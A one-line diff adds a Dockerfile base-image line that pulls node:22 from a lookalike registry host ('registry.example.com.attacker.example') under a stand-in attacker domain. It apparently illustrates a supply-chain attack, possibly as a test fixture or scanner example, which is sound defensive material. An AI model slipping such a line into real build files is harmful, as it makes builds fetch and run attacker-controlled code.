@@ -1,0 +1,1 @@
+FROM registry.example.com.attacker.example/node:22
